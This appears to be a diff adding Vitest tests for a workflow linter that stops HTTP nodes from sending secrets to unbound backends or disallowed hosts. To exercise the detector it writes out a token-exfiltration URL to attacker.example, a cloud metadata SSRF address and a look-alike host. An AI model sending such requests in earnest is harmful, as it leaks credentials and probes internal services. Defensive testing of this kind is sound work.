@@ -1,0 +1,73 @@
+import { describe, expect, it } from 'vitest';
+import { lintFlow } from '../../lint/lintFlow.ts';
+import { secretLeaks } from '../../lint/secretLeaks.ts';
+import type { LintContext } from '../../lint/lintContext.ts';
+import { Flow, type FlowInput } from '../../schema/flow.ts';
+import { sampleFlowInput } from '../../fixtures/sampleFlow.ts';
+
+/** The sample flow's look-up, changed: it sends `{{secret.OPERATOR_TOKEN}}` in its Authorization header. */
+function flowWithLookup(change: (lookup: Record<string, any>) => void): Flow {
+  const input: FlowInput = sampleFlowInput();
+  change(input.nodes.find((n) => n.id === 'lookup') as Record<string, any>);
+  return Flow.parse(input);
+}
+const errors = (flow: Flow, context?: LintContext) =>
+  lintFlow(flow, context).filter((i) => i.severity === 'error').map((i) => `${i.code}:${i.node}:${i.field}`);
+
+const deployment: LintContext = { secretBackends: { OPERATOR_TOKEN: ['operator'], CRM_TOKEN: ['crm', 'billing'], LEGACY: '*' }, allowedHosts: ['api.example.com', '*.operator.bj'] };
+
+describe('where an http node may send secrets', () => {
+  it('accepts a secret sent to a backend it is bound to', () => {
+    expect(errors(flowWithLookup(() => {}), deployment)).toEqual([]);
+    expect(errors(flowWithLookup((n) => { n.headers = { 'X-Key': '{{secret.LEGACY}}' }; }), deployment)).toEqual([]);
+  });
+
+  it('always refuses a secret in a request to an absolute URL, in any field, even without the deployment’s rules', () => {
+    const leaking = flowWithLookup((n) => {
+      delete n.backend;
+      n.url = 'https://attacker.example/collect?t={{secret.OPERATOR_TOKEN}}';
+      n.method = 'POST';
+      n.body = '{"token":"{{secret.OPERATOR_TOKEN}}"}';
+    });
+    expect(errors(leaking)).toEqual([
+      'secret.outsideBackend:lookup:url',
+      'secret.outsideBackend:lookup:headers.Authorization',
+      'secret.outsideBackend:lookup:body',
+    ]);
+    expect(lintFlow(leaking).find((i) => i.code === 'secret.outsideBackend')?.message).toMatch(/lookup would send secret OPERATOR_TOKEN to an address written in the flow/);
+    expect(secretLeaks(leaking).map((i) => i.node)).toEqual(['lookup', 'lookup', 'lookup']);
+    // A URL from a variable is no better than one written out.
+    expect(errors(flowWithLookup((n) => { delete n.backend; n.url = '{{segment}}'; }))).toContain('secret.outsideBackend:lookup:headers.Authorization');
+  });
+
+  it('with the deployment’s rules, refuses a secret sent to a backend it is not bound to, or not configured at all', () => {
+    const toCrm = flowWithLookup((n) => { n.backend = 'crm'; });
+    expect(errors(toCrm, deployment)).toEqual(['secret.notBound:lookup:headers.Authorization']);
+    expect(lintFlow(toCrm, deployment).find((i) => i.code === 'secret.notBound')).toMatchObject({
+      message: 'secret OPERATOR_TOKEN may be sent only to backend operator, not to crm',
+      params: { secret: 'OPERATOR_TOKEN', backend: 'crm', allowed: 'operator' },
+    });
+    expect(secretLeaks(toCrm, deployment)).toHaveLength(1);
+    // Without the rules (the pure lint), a named backend is trusted.
+    expect(errors(toCrm)).toEqual([]);
+
+    const unknown = flowWithLookup((n) => { n.headers = { Authorization: 'Bearer {{secret.OTHER}}' }; });
+    expect(errors(unknown, deployment)).toEqual(['secret.notConfigured:lookup:headers.Authorization']);
+    // Not configured is a refusal to publish, not a leak: the runtime has no value to send.
+    expect(secretLeaks(unknown, deployment)).toEqual([]);
+  });
+
+  it('limits absolute URLs to the allowed hosts', () => {
+    const to = (url: string) => flowWithLookup((n) => { delete n.backend; n.headers = {}; n.url = url; });
+    expect(errors(to('https://api.example.com/v1/{{caller.number}}'), deployment)).toEqual([]);
+    expect(errors(to('https://is.operator.bj/x'), deployment)).toEqual([]);
+    expect(errors(to('https://user@API.example.com:8443/x'), deployment)).toEqual([]);
+    expect(errors(to('http://169.254.169.254/latest/meta-data/'), deployment)).toEqual(['http.hostNotAllowed:lookup:url']);
+    expect(errors(to('https://api.example.com.evil.com/'), deployment)).toEqual(['http.hostNotAllowed:lookup:url']);
+    expect(errors(to('https://api.example.com/'), { ...deployment, allowedHosts: [] })).toEqual(['http.noOutsideHosts:lookup:url']);
+    expect(lintFlow(to('https://x.example/'), { allowedHosts: [] }).find((i) => i.code === 'http.noOutsideHosts')?.message).toMatch(/calls no address outside its named backends/);
+    expect(lintFlow(to('https://x.example/'), deployment).find((i) => i.code === 'http.hostNotAllowed')?.params).toEqual({ host: 'x.example' });
+    // Without the rules, the host is not judged here (the runtime still is).
+    expect(errors(to('http://169.254.169.254/'))).toEqual([]);
+  });
+});
